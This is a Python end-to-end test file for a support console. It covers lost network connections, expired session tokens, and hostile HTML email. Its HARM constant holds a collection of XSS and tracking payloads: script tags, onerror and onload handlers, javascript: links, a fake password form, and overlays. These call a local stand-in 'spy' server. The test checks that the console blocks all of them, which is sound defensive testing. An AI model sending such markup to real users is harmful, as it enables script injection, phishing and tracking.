"""What goes wrong at a console goes wrong for nobody else: cut networks, tokens that end, mail that means harm."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from email.message import EmailMessage
from email.policy import SMTP
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

from playwright.sync_api import Page, Route, expect
from typing_extensions import override

from sandbox.smtp import post
from sandbox.team import PASSWORD
from tests.e2e.browser import Windows
from tests.e2e.lab import CUSTOMER, MAIL_CUSTOMER, OUR_MAIL, Lab
from tests.e2e.seat import TOKENS, Seat, mailed, take_seat

OTHER = "+15551230002"
TWO_HOURS = "() => { const real = Date.now; Date.now = () => real() + 7_200_000; }"
"""The page's clock runs ahead; a token that is good for an hour is over."""


def without_network(seat: Seat, username: str) -> None:
    """The network is gone: the connection there was is closed, and nothing more is heard or said."""
    seat.page.context.set_offline(True)
    seat.lab.cut(username)


# -- a network that is cut ---------------------------------------------------------------------------


def test_what_came_while_the_network_was_gone_is_there_after_it(lab: Lab, windows: Windows) -> None:
    windows.forgive("ERR_INTERNET_DISCONNECTED")
    ann = take_seat(windows, lab, "ann")
    lab.text("hello")
    ann.open(CUSTOMER)
    without_network(ann, "ann")
    expect(ann.page.get_by_text("No connection.")).to_be_visible()

    lab.text("Are you there?")
    lab.text("hello", sender=OTHER)
    lab.wait_for(lambda: len(lab.all_conversations()) == 2 and len(lab.phone()) > 0, "both to be taken")
    ann.page.context.set_offline(False)

    expect(ann.row(OTHER)).to_be_visible()
    expect(ann.story.get_by_text("Are you there?")).to_be_visible()
    expect(ann.page.get_by_text("No connection.")).to_be_hidden()


def test_an_answer_that_was_sent_without_a_network_arrives_once(lab: Lab, windows: Windows) -> None:
    windows.forgive("ERR_INTERNET_DISCONNECTED")
    ann = take_seat(windows, lab, "ann")
    lab.text("hello")
    ann.open(CUSTOMER)
    without_network(ann, "ann")

    ann.answer("From a tunnel.")
    expect(ann.story.get_by_text("Not sent yet: no connection.")).to_be_visible()
    ann.page.context.set_offline(False)

    lab.wait_for(lambda: "From a tunnel." in lab.phone(), "the answer on the phone")
    expect(ann.story.get_by_text("Not sent yet")).to_be_hidden()
    lab.await_quiet()
    assert lab.phone().count("From a tunnel.") == 1


def test_an_answer_whose_confirmation_was_lost_arrives_once(lab: Lab, windows: Windows) -> None:
    windows.forgive("ERR_FAILED")
    ann = take_seat(windows, lab, "ann")
    lab.text("hello")
    ann.open(CUSTOMER)

    def lose(route: Route) -> None:
        route.fetch()
        route.abort()

    ann.page.route("**/replies", lose, times=1)
    ann.answer("Only once.")

    lab.wait_for(lambda: "Only once." in lab.phone(), "the answer on the phone")
    ann.expect_delivered("Only once.")
    assert lab.phone().count("Only once.") == 1


def test_whoever_was_away_for_two_hours_is_told_that_their_work_was_handed_on(lab: Lab, windows: Windows) -> None:
    windows.forgive("ERR_INTERNET_DISCONNECTED")
    ann = take_seat(windows, lab, "ann", online=False)
    ann.go_online()
    lab.text("hello")
    ann.open(CUSTOMER)
    without_network(ann, "ann")

    lab.running.clock.travel(lab.running.clock() + timedelta(hours=2))
    lab.agent("ben")
    lab.sweep()
    lab.wait_for(lambda: _owner(lab) == lab.agent_id("ben"), "the conversation to be handed on")
    ann.page.context.set_offline(False)

    expect(ann.row(CUSTOMER)).to_have_count(0)
    expect(ann.page.get_by_text("You count as offline")).to_be_visible()
    ann.page.get_by_role("button", name="Come back online").click()
    expect(ann.page.get_by_text("You count as offline")).to_be_hidden()


def _owner(lab: Lab) -> str | None:
    known = lab.conversation_of()
    return known.owner if known else None


# -- tokens that end ---------------------------------------------------------------------------------


def tokens_in(page: Page) -> dict[str, Any]:
    """What the console keeps now."""
    return dict(json.loads(page.evaluate("key => sessionStorage.getItem(key)", TOKENS)))


def test_a_token_that_has_ended_is_renewed_and_nobody_notices(lab: Lab, windows: Windows) -> None:
    ann = take_seat(windows, lab, "ann")
    before = tokens_in(ann.page)

    ann.page.evaluate(TWO_HOURS)
    lab.text("hello")
    ann.open(CUSTOMER)

    lab.wait_for(lambda: tokens_in(ann.page)["access"] != before["access"], "another token")
    expect(ann.page.get_by_text("Your session has ended.")).to_be_hidden()


def test_whoever_is_signed_out_finds_their_draft_after_signing_in_again(lab: Lab, windows: Windows) -> None:
    windows.forgive("status of 400")  # the refresh token is refused
    windows.forgive("status of 401")
    ann = take_seat(windows, lab, "ann")
    lab.text("hello")
    ann.open(CUSTOMER)
    ann.write("I was just about to say")
    refresh, client_id = tokens_in(ann.page)["refresh"], lab.outputs["UserPoolClientId"]

    lab.running.client("cognito-idp").revoke_token(Token=refresh, ClientId=client_id)
    ann.page.evaluate(TWO_HOURS)
    expect(ann.page.get_by_text("Your session has ended.")).to_be_visible()
    expect(ann.field).to_have_value("I was just about to say")
    ann.page.get_by_role("button", name="Sign in again").click()
    ann.page.get_by_label("Username").fill("ann")
    ann.page.get_by_label("Password").fill(PASSWORD)
    ann.page.get_by_role("button", name="Sign in").click()

    expect(ann.field).to_have_value("I was just about to say")


# -- mail that means harm ----------------------------------------------------------------------------

HARM = """
<base href="{spy}/base/"><meta http-equiv="refresh" content="0;url={spy}/refresh">
<link rel="stylesheet" href="{spy}/link.css"><link rel="preconnect" href="{spy}">
<style>@import url("{spy}/import.css"); body {{ background: url("{spy}/style.png") }}
header, nav, main {{ display: none !important }} * {{ position: fixed; inset: 0; z-index: 99999 }}</style>
<script>parent.document.title = "owned"; alert(1); fetch("{spy}/fetch")</script>
<img src="{spy}/pixel.gif"><img src="relative.gif" srcset="{spy}/set.gif 2x"><img src=x onerror="alert(2)">
<svg onload="alert(3)"><image href="{spy}/svg.png"/><script>alert(4)</script></svg>
<div style="position: fixed; inset: 0; z-index: 99999; background: red url({spy}/attribute.png)">Session over</div>
<p style="width: expression(alert(5)); behavior: url({spy}/behavior)">{words}</p>
<form action="{spy}/form"><input name="password" autofocus><button>Sign in</button></form>
<iframe src="{spy}/frame"></iframe><object data="{spy}/object"></object><embed src="{spy}/embed">
<video src="{spy}/video" poster="{spy}/poster" autoplay></video><audio src="{spy}/audio" autoplay></audio>
<a href="javascript:alert(6)">unsubscribe</a><table background="{spy}/table.png"><tr><td>x</td></tr></table>
"""


@contextmanager
def spying() -> Iterator[tuple[str, list[str]]]:
    """A stranger's server: its address, and what it was asked for."""
    asked: list[str] = []

    class Spy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  # http.server's names

        @override
        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Spy) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def mail_html(lab: Lab, html: str, subject: str) -> None:
    """A customer's mail whose only form is HTML."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = MAIL_CUSTOMER, OUR_MAIL, subject
    mail["Message-ID"] = "<harm@customers.example>"
    mail.set_content(html, subtype="html", cte="base64")
    post(lab.running.smtp_port, MAIL_CUSTOMER, OUR_MAIL, mail.as_bytes(policy=SMTP))


def layout(page: Page) -> Any:
    """Where the console's own parts are, and whether they can be clicked there."""
    return page.evaluate("""() => [document.title.replace(/^\\(\\d+\\) /, ""), location.href,
      ...["header.top", ".conversation-head h1", ".composer textarea"].map(selector => {
        const part = document.querySelector(selector);
        const { x, y, width, height } = part.getBoundingClientRect();
        const top = document.elementFromPoint(x + width / 2, y + height / 2);
        return [selector, Math.round(x), Math.round(width), part === top || part.contains(top)];
      })]""")


def test_a_hostile_mail_fetches_nothing_changes_nothing_and_is_answered(lab: Lab, windows: Windows) -> None:
    for provoked in ("policy: ", "Content Security Policy", "Blocked script execution", "Blocked autofocusing"):
        windows.forgive(provoked)
    ann = take_seat(windows, lab, "ann")
    dialogs: list[str] = []
    ann.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    with spying() as (spy, asked):
        mail_html(lab, HARM.format(spy=spy, words="Dear shop"), "Harm")
        ann.open("Harm")
        before = layout(ann.page)
        ann.story.get_by_role("button", name="Show all of it").click()
        shown = ann.page.frame_locator("iframe.mail-frame")
        expect(shown.get_by_text("Dear shop")).to_be_attached()
        after = layout(ann.page)
        ann.answer("We don't click on that.")
        lab.wait_for(lambda: mailed(lab, "We don't click on that."), "the answer in the mailbox")

        assert shown.locator("script, form, iframe, object, embed, base, link").count() == 0
    assert after == before
    assert (asked, dialogs) == ([], [])


def test_five_megabytes_of_mail_are_shown_and_answered(lab: Lab, windows: Windows) -> None:
    ann = take_seat(windows, lab, "ann")
    row = "<tr><td style='color: navy'>A line of a very long order list</td></tr>"
    mail_html(lab, f"<p>The list</p><table>{row * (5_000_000 // len(row))}</table>", "Long")

    ann.open("Long")
    ann.story.get_by_role("button", name="Show all of it").last.click()
    expect(ann.page.frame_locator("iframe.mail-frame").get_by_text("The list")).to_be_visible()
    ann.answer("Got it.")

    lab.wait_for(lambda: mailed(lab, "Got it."), "the answer in the mailbox")
